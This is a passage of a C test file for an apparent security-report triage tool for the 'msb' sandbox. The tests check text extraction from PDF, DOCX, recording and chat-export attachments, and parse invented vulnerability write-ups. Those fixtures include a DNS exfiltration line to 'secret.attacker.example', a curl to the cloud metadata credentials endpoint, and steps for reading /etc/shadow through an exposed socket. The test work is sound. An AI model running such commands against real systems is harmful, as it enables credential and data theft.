	gsize n = 0;
	g_autofree char *u16 = g_convert(wer, -1, "UTF-16LE", "UTF-8", NULL, &n, NULL);
	g_assert_nonnull(u16);
	g_autofree char *bom = g_malloc(n + 2);
	memcpy(bom, "\xff\xfe", 2);
	memcpy(bom + 2, u16, n);
	Att atts[] = {
		{ "Report.wer", "application/octet-stream", bom, n + 2 },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, NULL, PROSE "msb crashed, the WER file is attached.", atts);
	g_assert_cmpstr(a->version, ==, "0.9.3");
	g_assert_true(a->check[ST_CHECK_LOGS]);
	StAttachment *c = g_ptr_array_index(a->msg->attachments, 0);
	g_assert_cmpint(c->role, ==, ST_ROLE_LOG);

	g_autofree char *log = g_convert("$ msb --version\nmsb 0.9.2\n", -1, "UTF-16LE", "UTF-8", NULL, &n, NULL);
	Att labelled[] = {
		{ "version.txt", "text/plain; charset=utf-16le", log, n },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) b = analyse(rules, NULL, PROSE "The version is in the attached file.", labelled);
	g_assert_cmpstr(b->version, ==, "0.9.2");
}

/* Read WHOLE cut short every STEP bytes with READ: no crash, and never
 * more text than MAX bytes (a torn attachment reads as at most the whole). */
static void
assert_torn(const StRules *rules, char *(*read)(const StRules *, GBytes *), GBytes *whole, gsize step,
	    gsize max)
{
	gsize n = g_bytes_get_size(whole);

	for (gsize cut = 0; cut < n; cut += step) {
		g_autoptr(GBytes) torn = g_bytes_new_from_bytes(whole, 0, cut);
		g_autofree char *t = read(rules, torn);
		g_assert_true(t == NULL || strlen(t) <= max);
	}
}

/* ------------------------------------------------------------ pdf */

/* DATA in ASCII85 as PDF writes it (ReportLab: "z" for four zero bytes,
 * a short last group, "~>" at the end), lines of 64 characters. */
static GBytes *
ascii85_encode(GBytes *data)
{
	gsize n = 0;
	const guint8 *d = g_bytes_get_data(data, &n);
	GString *out = g_string_new(NULL);

	for (gsize i = 0; i < n; i += 4) {
		gsize k = MIN(4, n - i);
		guint32 v = 0;
		for (gsize j = 0; j < 4; j++)
			v = v << 8 | (j < k ? d[i + j] : 0);
		if (v == 0 && k == 4) {
			g_string_append_c(out, 'z');
			continue;
		}
		char c[5];
		for (int j = 4; j >= 0; j--, v /= 85)
			c[j] = (char)('!' + v % 85);
		g_string_append_len(out, c, (gssize)k + 1);
		if (out->len % 64 < 5)
			g_string_append_c(out, '\n');
	}
	g_string_append(out, "~>");
	return g_string_free_to_bytes(out);
}

/* The same in ASCIIHex, "> " at the end. */
static GBytes *
asciihex_encode(GBytes *data)
{
	gsize n = 0;
	const guint8 *d = g_bytes_get_data(data, &n);
	GString *out = g_string_new(NULL);

	for (gsize i = 0; i < n; i++)
		g_string_append_printf(out, "%02X%s", d[i], i % 32 == 31 ? "\n" : "");
	g_string_append_c(out, '>');
	return g_string_free_to_bytes(out);
}

/* A one-page PDF whose page content is CONTENT, Flate-compressed when
 * DEFLATE, then written in ASCII85 (ENCODE 1) or ASCIIHex (2) as the
 * filter chain before FlateDecode says, with one font stream (binary,
 * /Subtype) that must be skipped. */
static GBytes *
make_pdf_encoded(const char *content, gboolean deflate, int encode)
{
	g_autoptr(GBytes) body = g_bytes_new(content, strlen(content));
	if (deflate) {
		g_autoptr(GZlibCompressor) z = g_zlib_compressor_new(G_ZLIB_COMPRESSOR_FORMAT_ZLIB, 6);
		g_autoptr(GOutputStream) mem = g_memory_output_stream_new_resizable();
		g_autoptr(GOutputStream) out = g_converter_output_stream_new(mem, G_CONVERTER(z));
		g_assert_true(g_output_stream_write_all(out, content, strlen(content), NULL, NULL, NULL));
		g_assert_true(g_output_stream_close(out, NULL, NULL));
		g_bytes_unref(body);
		body = g_memory_output_stream_steal_as_bytes(G_MEMORY_OUTPUT_STREAM(mem));
	}
	GByteArray *pdf = g_byte_array_new();
	const char *head = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
		"4 0 obj\n<< /Length 12 /Length1 12 /Subtype /Type1C >>\nstream\n"
		"(Tj) Tj BT\x01\x02\nendstream\nendobj\n";
	g_byte_array_append(pdf, (const guint8 *)head, strlen(head));
	const char *filter = deflate ? " /Filter /FlateDecode" : "";
	if (encode != 0) {
		GBytes *enc = encode == 1 ? ascii85_encode(body) : asciihex_encode(body);
		g_bytes_unref(body);
		body = enc;
		filter = encode == 1 ? (deflate ? " /Filter [ /ASCII85Decode /FlateDecode ]" : " /Filter /A85")
				     : (deflate ? " /Filter [/AHx /Fl]" : " /Filter /ASCIIHexDecode");
	}
	g_autofree char *dict = g_strdup_printf("5 0 obj\n<< /Length %zu%s >>\nstream\n",
						g_bytes_get_size(body), filter);
	g_byte_array_append(pdf, (const guint8 *)dict, strlen(dict));
	g_byte_array_append(pdf, g_bytes_get_data(body, NULL), g_bytes_get_size(body));
	const char *tail = "\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
	g_byte_array_append(pdf, (const guint8 *)tail, strlen(tail));
	return g_byte_array_free_to_bytes(pdf);
}

static GBytes *
make_pdf(const char *content, gboolean deflate)
{
	return make_pdf_encoded(content, deflate, 0);
}

/* The text a PDF shows: Tj, TJ with a word gap, ' and ", escapes, octal
 * and hex strings, WinAnsiEncoding's letters, quotes and dashes between
 * 0x80 and 0x9f (3992), new lines from Td and T*; the same through FlateDecode;
 * fonts skipped; glyph-id strings, a non-PDF and a torn PDF give nothing. */
static void
test_pdf(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *content =
		"BT /F1 10 Tf 50 780 Td 13 TL\n"
		"(Version: msb 0.8.1) Tj 0 -13 Td\n"
		"[(Host:)-250(Ubuntu 22.04.5 LTS) 20 (, kernel 6.5.0-45-generic)] TJ\n"
		"(Steps \\(as bob\\): cat /tmp/run.log) '\n"
		"T* <6f776e6564> Tj ( caf\\351) Tj\n"
		"T* (Luk\\341\\232 Nov\\341k \\223quoted\\224 \\227 \\201) Tj\n"
		"1 0 0 1 50 600 Tm (<\\001\\002\\003\\004\\005>) Tj ET\n";
	const char *want =
		"Version: msb 0.8.1\n"
		"Host: Ubuntu 22.04.5 LTS, kernel 6.5.0-45-generic\n"
		"Steps (as bob): cat /tmp/run.log\n"
		"owned caf\xc3\xa9\n"
		"Luk\xc3\xa1\xc5\xa1 Nov\xc3\xa1k \xe2\x80\x9cquoted\xe2\x80\x9d \xe2\x80\x94 \n";

	/* plain and through FlateDecode; (4554) the same behind ASCII85 or
	 * ASCIIHex, alone or before FlateDecode, as ReportLab writes it by
	 * default */
	for (int encode = 0; encode <= 2; encode++)
		for (int deflate = 0; deflate <= 1; deflate++) {
			g_autoptr(GBytes) pdf = make_pdf_encoded(content, deflate, encode);
			g_autofree char *text = st_x_pdf_text(rules, pdf);
			g_assert_cmpstr(text, ==, want);
			assert_torn(rules, st_x_pdf_text, pdf, 5, strlen(want) + 1);
		}
	/* four zero bytes as "z", and a character outside ASCII85 */
	static const char z85[] = "%PDF-1.4\n5 0 obj\n<< /Filter /A85 >>\nstream\nz6<#'UDegdE<,*OE<!i~>\nendstream\n";
	g_autoptr(GBytes) zeros4 = g_bytes_new_static(z85, sizeof z85 - 1);
	g_autofree char *zt = st_x_pdf_text(rules, zeros4);
	g_assert_cmpstr(zt, ==, "ok\n");
	static const char bad[] = "%PDF-1.4\n5 0 obj\n<< /Filter /A85 >>\nstream\nBT (x) Tj ET {|}\nendstream\n";
	g_autoptr(GBytes) bad85 = g_bytes_new_static(bad, sizeof bad - 1);
	g_autofree char *bt = st_x_pdf_text(rules, bad85);
	g_assert_null(bt);

	g_autoptr(GBytes) glyphs = make_pdf("BT <0001000200030004> Tj ET\n", TRUE);
	g_autofree char *none = st_x_pdf_text(rules, glyphs);
	g_assert_null(none);
	/* a deflate bomb (16 MiB of no text) stops at [extract.pdf]'s bounds */
	g_autofree char *zeros = g_strnfill(16 << 20, ' ');
	g_autoptr(GBytes) bomb = make_pdf(zeros, TRUE);
	gint64 t0 = g_get_monotonic_time();
	g_autofree char *none3 = st_x_pdf_text(rules, bomb);
	g_assert_null(none3);
	g_assert_cmpint(g_get_monotonic_time() - t0, <, 2 * G_USEC_PER_SEC);
	g_autoptr(GBytes) notpdf = g_bytes_new_static("stream\n(hello) Tj\nendstream\n", 29);
	g_autofree char *none2 = st_x_pdf_text(rules, notpdf);
	g_assert_null(none2);
}

/* ------------------------------------------------------------ docx */

/* A .docx in memory (a zip written by libarchive) whose word/document.xml
 * holds BODY inside w:body, beside [Content_Types].xml; with PART NULL the
 * document part is left out. */
static GBytes *
make_docx(const char *part, const char *body)
{
	struct archive *w = archive_write_new();
	gsize cap = (1 << 20) + strlen(body) / 64, used = 0;
	char *buf = g_malloc0(cap);
	g_autofree char *doc = g_strconcat(
		"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
		"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
		"<w:body>", body, "</w:body></w:document>", NULL);
	const char *names[] = { "[Content_Types].xml", part };
	const char *data[] = { "<?xml version=\"1.0\"?><Types/>", doc };

	archive_write_set_format_zip(w);
	g_assert_cmpint(archive_write_open_memory(w, buf, cap, &used), ==, ARCHIVE_OK);
	for (int i = 0; i < 2 && names[i]; i++) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, names[i]);
		archive_entry_set_size(e, (la_int64_t)strlen(data[i]));
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		g_assert_cmpint(archive_write_header(w, e), ==, ARCHIVE_OK);
		archive_write_data(w, data[i], strlen(data[i]));
		archive_entry_free(e);
	}
	archive_write_close(w);
	archive_write_free(w);
	return g_bytes_new_take(buf, used);
}

#define WP(x) "<w:p><w:r><w:t xml:space=\"preserve\">" x "</w:t></w:r></w:p>"
#define WH(x) "<w:p><w:r><w:rPr><w:b/></w:rPr><w:t>" x "</w:t></w:r></w:p>"

/* The text a .docx shows: a line per paragraph, runs joined, entities, a
 * tab and a break; a bold or Heading paragraph set apart by blank lines
 * (w:b w:val="0" is not bold); a non-zip, a zip without the document part
 * and a torn file give nothing or less; a bomb stops at the bounds; a
 * report sent only as report.docx is read for the checklist, the version,
 * the host and the credit. */
static void
test_docx(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *body =
		"<w:p><w:pPr><w:pStyle w:val=\"Title\"/></w:pPr><w:r><w:t>Report</w:t></w:r></w:p>"
		WP("Version: msb 0.8.1")
		"<w:p><w:r><w:t>Host:</w:t></w:r><w:r><w:tab/><w:t>Ubuntu &amp; co</w:t><w:br/>"
		"<w:t>kernel 6.5</w:t></w:r></w:p>"
		WH("Steps")
		WP("$ cat /tmp/x")
		"<w:p><w:r><w:rPr><w:b w:val=\"0\"/></w:rPr><w:t>not a heading</w:t></w:r></w:p>";
	const char *want =
		"Report\n\n"
		"Version: msb 0.8.1\n"
		"Host:\tUbuntu & co\nkernel 6.5\n"
		"\nSteps\n\n"
		"$ cat /tmp/x\n"
		"not a heading\n";
	g_autoptr(GBytes) docx = make_docx("word/document.xml", body);
	g_autofree char *text = st_x_docx_text(rules, docx);
	g_assert_cmpstr(text, ==, want);
	assert_torn(rules, st_x_docx_text, docx, 5, strlen(want));
	g_autoptr(GBytes) nopart = make_docx(NULL, WP("hidden"));
	g_autofree char *none = st_x_docx_text(rules, nopart);
	g_assert_null(none);
	g_autoptr(GBytes) other = make_docx("word/styles.xml", WP("styles"));
	g_autofree char *none2 = st_x_docx_text(rules, other);
	g_assert_null(none2);
	g_autoptr(GBytes) notzip = g_bytes_new_static(WP("plain"), strlen(WP("plain")));
	g_autofree char *none3 = st_x_docx_text(rules, notzip);
	g_assert_null(none3);

	/* 16 MiB in one run (a deflate bomb): the part stops at max_xml_bytes,
	 * the unfinished run gives nothing, quickly */
	g_autofree char *many = g_strnfill(16 << 20, 'a');
	g_autofree char *bigbody = g_strconcat("<w:p><w:r><w:t>", many, "</w:t></w:r></w:p>", NULL);
	g_autoptr(GBytes) bomb = make_docx("word/document.xml", bigbody);
	gint64 t0 = g_get_monotonic_time();
	g_autofree char *cut = st_x_docx_text(rules, bomb);
	g_assert_cmpint(g_get_monotonic_time() - t0, <, 2 * G_USEC_PER_SEC);
	g_assert_null(cut);
	/* 300 paragraphs of 1,000 characters: the text stops at max_text_bytes */
	g_autoptr(GString) paras = g_string_new(NULL);
	g_autofree char *kilo = g_strnfill(999, 'b');
	for (int i = 0; i < 300; i++)
		g_string_append_printf(paras, "<w:p><w:r><w:t>%s\xc3\xa9</w:t></w:r></w:p>", kilo);
	g_autoptr(GBytes) long_doc = make_docx("word/document.xml", paras->str);
	g_autofree char *capped = st_x_docx_text(rules, long_doc);
	gint64 max_text = st_rules_get_int(rules, "extract.docx", "max_text_bytes", 0);
	g_assert_nonnull(capped);
	g_assert_cmpint(max_text, >, 0);
	g_assert_cmpint((gint64)strlen(capped), <=, max_text);
	g_assert_cmpint((gint64)strlen(capped), >, max_text - 4);
	g_assert_true(g_utf8_validate(capped, -1, NULL));

	const char *report =
		WH("Summary")
		WP("The host-side file server looks file handles up by inode number only, so a process "
		   "in one sandbox opens and reads files of another sandbox's volume. This breaks the "
		   "isolation between sandboxes: one tenant reads another tenant's files.")
		WH("Environment")
		WP("$ msb --version") WP("msb 0.8.4")
		WP("PRETTY_NAME=&quot;Fedora Linux 41 (Workstation Edition)&quot;")
		WP("$ uname -r") WP("6.11.8-300.fc41.x86_64")
		WH("Steps")
		WP("$ msb run --name b --volume /tmp/b:/data alpine -- /data/fhopen 1835012")
		WP("opened handle ino=1835012 -&gt; fd 3") WP("TOPSECRET-A")
		WH("Credit")
		WP("Please credit Kenji Watanabe (https://kwatanabe.example) in the advisory.");
	g_autoptr(GBytes) rep = make_docx("word/document.xml", report);
	gsize rlen = 0;
	const char *rdata = g_bytes_get_data(rep, &rlen);
	const Att atts[] = {
		{ "microsandbox-report.docx",
		  "application/vnd.openxmlformats-officedocument.wordprocessingml.document", rdata, rlen },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, "security report", "Report attached.", atts);
	g_assert_true(a->check[ST_CHECK_DESCRIPTION]);
	g_assert_true(a->check[ST_CHECK_POC]);
	g_assert_true(a->check[ST_CHECK_LOGS]);
	g_assert_cmpstr(a->version, ==, "0.8.4");
	g_assert_cmpstr(a->kernel, ==, "6.11.8-300.fc41.x86_64");
	g_assert_cmpstr(a->credit_name, ==, "Kenji Watanabe");
	g_assert_cmpstr(a->credit_link, ==, "https://kwatanabe.example");
	/* the same document under a name that is no report's is not a report */
	const Att other_atts[] = {
		{ "invoice.docx", "application/octet-stream", rdata, rlen },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) b = analyse(rules, "invoice", "Invoice attached.", other_atts);
	g_assert_false(b->check[ST_CHECK_DESCRIPTION]);
	g_assert_null(b->credit_name);
	/* ... unless the mail points to the attached document as the report */
	const Att named_atts[] = {
		{ "fs-inode-handles.docx", "application/octet-stream", rdata, rlen },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) c = analyse(rules, "file server",
					  "We found a problem, write-up attached as a Word document.", named_atts);
	g_assert_true(c->check[ST_CHECK_DESCRIPTION]);
	g_assert_cmpstr(c->credit_name, ==, "Kenji Watanabe");
}

/* An asciinema recording is read as what its terminal showed: the output
 * events' data in order (a command typed a character an event), the
 * escape sequences taken out, CR LF as LF; input and marker events show
 * nothing.  A recording is the report's transcript: its `msb --version`
 * and `hostnamectl` give the version and the host (3727).  No asciicast
 * header, no text; a torn file keeps what came before the tear. */
static void
test_cast_text(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *cast =
		"{\"version\": 2, \"width\": 132, \"height\": 36, \"env\": {\"TERM\": \"xterm-256color\"}}\n"
		"[0.7, \"o\", \"\\u001b]0;jana@ci: ~\\u0007\\u001b[1;32mjana@buildtest-03\\u001b[0m:~$ \"]\n"
		"[1.6, \"o\", \"m\"]\n[1.7, \"o\", \"s\"]\n[1.8, \"o\", \"b\"]\n[1.9, \"i\", \"XX\"]\n"
		"[2.0, \"o\", \" --version\\r\\n\"]\n[2.5, \"o\", \"msb 0.12.7\\r\\n\"]\n"
		"[2.6, \"m\", \"marker\"]\n"
		"[2.8, \"o\", \"$ hostnamectl\\r\\nOperating System: openSUSE Tumbleweed\\r\\n"
		"          Kernel: Linux 6.19.4-1-default\\r\\n\"]\n";
	const char *want = "\x1b"; /* (never in the text) */
	g_autoptr(GBytes) b = g_bytes_new_static(cast, strlen(cast));
	g_autofree char *text = st_x_cast_text(rules, b);
	g_assert_nonnull(text);
	g_assert_null(strstr(text, want));
	g_assert_null(strstr(text, "\r"));
	g_assert_null(strstr(text, "XX"));
	g_assert_null(strstr(text, "marker"));
	g_assert_nonnull(strstr(text, "jana@buildtest-03:~$ msb --version\nmsb 0.12.7\n"));
	g_assert_nonnull(strstr(text, "Operating System: openSUSE Tumbleweed\n"));

	g_autoptr(GBytes) whole = g_bytes_new_static(cast, strlen(cast));
	assert_torn(rules, st_x_cast_text, whole, 7, strlen(text));
	const char *notcast = "{\"name\": \"x\"}\n[1.0, \"o\", \"msb 0.12.7\"]\n";
	g_autoptr(GBytes) nc = g_bytes_new_static(notcast, strlen(notcast));
	g_autofree char *none = st_x_cast_text(rules, nc);
	g_assert_null(none);

	const Att atts[] = {
		{ "msb-hugepage-leak.cast", "application/x-asciicast", cast, strlen(cast) },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, "hugepages: memory of the previous sandbox",
					  "The previous sandbox's memory is handed to the next one. Recording "
					  "attached.", atts);
	g_assert_cmpstr(a->version, ==, "0.12.7");
	g_assert_cmpstr(a->distro, ==, "openSUSE Tumbleweed");
	g_assert_cmpstr(a->kernel, ==, "6.19.4-1-default");
}

/* A write-up sent as a text file under a body of one line or a pointer is
 * the report: read like the body for the checklist, the version and the
 * credit, whatever the file is called and in whatever language, and no
 * script to run.  A log, a long body's attachment, a body that says more
 * than the file stay what they were. */
static const char *const writeup_md =
	"# Sandboxes started from one template share a /tmp inode cache\n\n"
	"Marta Quiroga, Ostrava Labs\n\n"
	"## What happens\n\n"
	"When two sandboxes are created from the same template within a few seconds,\n"
	"the second one is given the page cache of the first one for its temporary\n"
	"directory. Files the first sandbox writes there can be read from the second\n"
	"sandbox, although the two belong to different customers of ours.\n\n"
	"## Impact\n\n"
	"Anything a customer keeps in /tmp for a moment (unpacked archives, tokens\n"
	"handed over by the orchestrator, build outputs) is readable by whoever gets\n"
	"the next sandbox from that template, with no privilege at all.\n\n"
	"## How to see it\n\n"
	"```\n$ msb run --name one --template base alpine -- sh -c 'echo TOKEN-1 > /tmp/x'\n"
	"$ msb run --name two --template base alpine -- cat /tmp/x\nTOKEN-1\n```\n\n"
	"## Environment\n\n"
	"- msb 0.9.2 on a Debian 12 host, installed from the release package\n\n"
	"## Credit\n\n"
	"If you list finders: Marta Quiroga (Ostrava Labs), a link is not needed.\n";

static const char *const writeup_es =
	"Resumen\n=======\n\n"
	"El demonio msbd deja abierto el socket de control con permisos de escritura\n"
	"para todos los usuarios del sistema, de modo que cualquier cuenta local puede\n"
	"pedirle que monte un directorio del anfitrión dentro de un sandbox propio y\n"
	"leer así archivos que pertenecen al usuario root del anfitrión.\n\n"
	"Pasos para reproducirlo\n=======================\n\n"
	"1. Con una cuenta sin privilegios, comprobar los permisos del socket.\n"
	"2. Enviar la petición de montaje con la ruta /etc del anfitrión.\n"
	"3. Leer /mnt/etc/shadow desde dentro del sandbox.\n\n"
	"    $ ls -l /run/msb/control.sock\n    srwxrwxrwx 1 root root 0 ago 12 10:02 /run/msb/control.sock\n\n"
	"Versión afectada: msb 0.9.4, en un portátil con Fedora 41.\n\n"
	"Si publican un aviso, por favor acredítenme como Lucía Benítez.\n";

static void
test_writeup_attached(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	/* a Markdown write-up under one line that only greets and points */
	const Att md[] = { { "tmp-cache-between-tenants.md", "text/markdown", writeup_md, 0 },
			   { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) a = analyse(rules, "tmp shared between sandboxes",
					  "Hello, everything is in the notes I put in this mail. Marta", md);
	StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
	g_assert_true(att->document);
	g_assert_cmpint(att->role, !=, ST_ROLE_POC);
	g_assert_true(a->check[ST_CHECK_DESCRIPTION]);
	g_assert_true(a->check[ST_CHECK_POC]);
	g_assert_true(a->check[ST_CHECK_LOGS]);
	g_assert_cmpstr(a->version, ==, "0.9.2");
	g_assert_cmpstr(a->credit_name, ==, "Marta Quiroga (Ostrava Labs)");

	/* a plain .txt in Spanish under a one-line Spanish body */
	const Att es[] = { { "socket-msbd.txt", "text/plain; charset=utf-8", writeup_es, 0 },
			   { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) b = analyse(rules, "socket de control", "Hola, va el informe adjunto.", es);
	g_assert_true(((StAttachment *)g_ptr_array_index(b->msg->attachments, 0))->document);
	g_assert_true(b->check[ST_CHECK_DESCRIPTION]);
	g_assert_true(b->check[ST_CHECK_POC]);
	g_assert_cmpstr(b->version, ==, "0.9.4");
	g_assert_cmpstr(b->credit_name, ==, "Lucía Benítez");

	/* the same text sent as application/octet-stream (a mailer that does
	 * not know .rst): read from its bytes and kept as the report's text */
	const Att raw[] = { { "bericht.rst", "application/octet-stream", writeup_es, 0 },
			    { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) c = analyse(rules, "socket", "Details siehe Anhang.", raw);
	StAttachment *catt = g_ptr_array_index(c->msg->attachments, 0);
	g_assert_true(catt->document);
	g_assert_nonnull(catt->text);
	g_assert_true(c->check[ST_CHECK_DESCRIPTION]);

	/* a body of a few paragraphs that points to the file, which says
	 * more: the file is the report; without the pointer it is not */
	const char *middle =
		"Hi team, we were testing templates for our hosting platform last week\n"
		"and noticed something odd between sandboxes of different customers.\n"
		"We have not looked at the code, so we do not know where it comes from.\n"
		"We stopped using templates in production until we hear from you.\n"
		"The person who found it is on holiday this week, so I am sending it.\n"
		"She asked me to say that she is happy to help with a fix or a test,\n"
		"and that you can write to her directly once she is back next Monday.\n";
	g_autofree char *pointing = g_strconcat(middle, "The full analysis is in the attached file.\n", NULL);
	g_autoptr(StAnalysis) d = analyse(rules, "templates", pointing, md);
	g_assert_true(((StAttachment *)g_ptr_array_index(d->msg->attachments, 0))->document);
	g_autoptr(StAnalysis) e = analyse(rules, "templates", middle, md);
	g_assert_false(((StAttachment *)g_ptr_array_index(e->msg->attachments, 0))->document);
	/* a firm's advisory named as what is attached (1293) */
	g_autofree char *advisory = g_strconcat(middle, "Please find enclosed our vulnerability advisory QX-2028-07.\n", NULL);
	g_autoptr(StAnalysis) adv = analyse(rules, "templates", advisory, md);
	g_assert_true(((StAttachment *)g_ptr_array_index(adv->msg->attachments, 0))->document);

	/* (#3) a write-up whose script and output outweigh its sentences,
	 * the body pointing to it as the details: the report, its script the
	 * PoC (2559); unpointed, it keeps its role */
	const char *mixed =
		"SDK: NetworkPolicy(deny_private=True) leaves 169.254.0.0/16 open\n\nWhat is wrong\n-------------\n"
		"The SDK docs say deny_private=True blocks link-local destinations, including the cloud metadata\n"
		"endpoints. In Sandbox.create() the SDK expands the flag into the deny list, but the expansion only\n"
		"contains the RFC 1918 ranges, so the link-local range stays reachable from every sandbox.\n\n"
		"Why it matters\n--------------\nOn a cloud VM, code in the sandbox can query the instance metadata\n"
		"service and read the role's temporary credentials, which is exactly what the setting should stop.\n\n"
		"Reproduction\n------------\n    $ python3 repro.py\n    deny_private=True -> {\"Code\":\"Success\"}\n"
		"    $ msb --version\n    msb 0.12.1\n    $ uname -r\n    6.12.4-arch1-1\n    $ pip show microsandbox\n"
		"    Version: 0.12.1\n    $ curl -s http://169.254.169.254/latest/meta-data/\n    ami-id\n    hostname\n";
	const Att mixeds[] = { { "msb-deny-private.txt", "text/plain", mixed, 0 }, { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) mx = analyse(rules, "deny_private leaves link-local open",
		"Hi all, heads-up for anyone relying on deny_private: it does not block link-local addresses. Details, "
		"repro and output are in the attached text file. I'll also follow up with the maintainers directly.", mixeds);
	g_assert_true(((StAttachment *)g_ptr_array_index(mx->msg->attachments, 0))->document);
	g_assert_true(mx->check[ST_CHECK_POC]);

	/* a log under a one-line body stays a log, by its name ... */
	const char *log =
		"2027-08-12T10:02:11Z INFO msbd: sandbox one started from template base\n"
		"2027-08-12T10:02:13Z INFO msbd: sandbox two started from template base\n"
		"2027-08-12T10:02:13Z WARN msbd: tmpfs cache reused for sandbox two\n";
	const Att logs[] = { { "msbd.log", "text/plain", log, 0 }, { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) f = analyse(rules, "log", "Log attached.", logs);
	StAttachment *fatt = g_ptr_array_index(f->msg->attachments, 0);
	g_assert_false(fatt->document);
	g_assert_cmpint(fatt->role, ==, ST_ROLE_LOG);
	/* ... and by its lines under any name: journal lines are no prose */
	const char *journal =
		"Aug 12 10:02:11 build-07 msbd[812]: sandbox one started from template base with 2 vCPUs\n"
		"Aug 12 10:02:13 build-07 msbd[812]: sandbox two started from template base with 2 vCPUs\n"
		"Aug 12 10:02:13 build-07 msbd[812]: reusing the tmpfs cache of sandbox one for sandbox two\n"
		"Aug 12 10:02:14 build-07 msbd[812]: sandbox two mounted its temporary directory read write\n"
		"Aug 12 10:02:19 build-07 msbd[812]: sandbox one stopped after the command exited normally\n"
		"Aug 12 10:02:21 build-07 msbd[812]: sandbox two stopped after the command exited normally\n"
		"Aug 12 10:02:22 build-07 msbd[812]: the tmpfs cache was released once both had stopped\n";
	const Att jl[] = { { "notes.txt", "text/plain", journal, 0 }, { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) g = analyse(rules, "log", "See the attached file.", jl);
	g_assert_false(((StAttachment *)g_ptr_array_index(g->msg->attachments, 0))->document);

	/* a long report of its own with another project's README attached:
	 * the README is no part of the report */
	const char *readme =
		"# tinyhttp\n\nA very small HTTP server written for teaching purposes only.\n\n"
		"It is not meant for production use and has never been audited by anyone.\n"
		"The server reads a configuration file and serves the files of one folder.\n"
		"Contributions are welcome, please open an issue before a pull request.\n"
		"The project is licensed under the terms of the MIT licence, see LICENSE.\n"
		"Thanks to everyone who sent patches over the years, you know who you are.\n";
	const Att rd[] = { { "README.md", "text/markdown", readme, 0 }, { NULL, NULL, NULL, 0 } };
	g_autofree char *long_body = g_strconcat(PROSE, PROSE,
		"Steps:\n\n    $ msb run --network none alpine -- nslookup secret.attacker.example\n\n"
		"The server we used to receive the queries is the one in the README attached.\n", NULL);
	g_autoptr(StAnalysis) h = analyse(rules, "dns", long_body, rd);
	g_assert_false(((StAttachment *)g_ptr_array_index(h->msg->attachments, 0))->document);
	g_assert_null(h->credit_name);
}


/* (#3) a chat app's exported history sent as the report: its timestamped
 * lines are a log, and the body that points to it ("sending our team
 * chat") makes it read for what the body lacks: the commands and the host
 * told in the chat (round 237).  Without the pointer a log is only a log. */
static void
test_chat_export(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char chat[] =
		"18/12/2026, 09:12 - Abena Owusu: ok this is weird. why does my python:3.12-slim have his motd in it\n"
		"18/12/2026, 09:26 - Abena Owusu: done, loaded mine with msb image load -i py.tar\n"
		"18/12/2026, 09:28 - Kofi Mensah: as me (different unix user, never touched it):\n"
		"$ msb run --rm python:3.12-slim cat /etc/motd\nhi from abena\n"
		"18/12/2026, 09:33 - Kofi Mensah: build-02 is ubuntu 24.04.1, 6.8.0-51-generic.\n";
	const Att atts[] = { { "WhatsApp Chat with build-02 crew.txt", "text/plain", chat }, { NULL } };
	const char *body = "hi, sending our team chat bc typing it all again on my phone is a pain.\n\n"
			   "on our shared build box msb image load puts images into ONE store keyed by tag for "
			   "all users, so any msb user can get code into every other user's sandboxes.\n";
	g_autoptr(StAnalysis) a = analyse(rules, "WhatsApp Chat with build-02 crew", body, atts);
	g_assert_cmpstr(((StAttachment *)g_ptr_array_index(a->msg->attachments, 0))->role == ST_ROLE_LOG ?
			"log" : "other", ==, "log");
	g_assert_true(a->check[ST_CHECK_LOGS]);
	g_assert_true(a->check[ST_CHECK_POC]);
	g_assert_cmpstr(a->os, ==, "linux");
	g_assert_cmpstr(a->kernel, ==, "6.8.0-51-generic");

	g_autoptr(StAnalysis) b = analyse(rules, "chat", "the images leak between users, see the chat.\n", atts);
	g_assert_true(b->check[ST_CHECK_LOGS]);
	g_assert_false(b->check[ST_CHECK_POC]);

	/* KakaoTalk's export ("[NAME] [오후 2:52] text") beside the script
	 * it ran: the script is the PoC, the export a log (round 303) */
	static const char kakao[] =
		"--------------- 2027년 1월 4일 월요일 ---------------\n"
		"[박지훈] [오후 2:47] 서연님 이거 좀 이상해요\n"
		"[박지훈] [오후 2:48] warm 스냅샷에서 t1 t2 복원했는데 uuid4 가 똑같이 나와요\n"
		"[이서연] [오후 2:49] ??? 우연 아니고요?\n"
		"[박지훈] [오후 2:52] $ msb exec t1 -- python3 /tmp/check.py\n"
		"boot_id   7d1c0b4e-2f6a-4e59-b1a3-5c8d9e0f2a17\n"
		"uuid4     3c9e4a1f-8b2d-4f6e-9a0c-7d5b1e3f2c84\n"
		"[박지훈] [오후 2:52] $ msb exec t2 -- python3 /tmp/check.py\n"
		"boot_id   7d1c0b4e-2f6a-4e59-b1a3-5c8d9e0f2a17\n"
		"uuid4     3c9e4a1f-8b2d-4f6e-9a0c-7d5b1e3f2c84\n"
		"[박지훈] [오후 2:53] urandom 까지 같아요 재시드가 없는 듯\n"
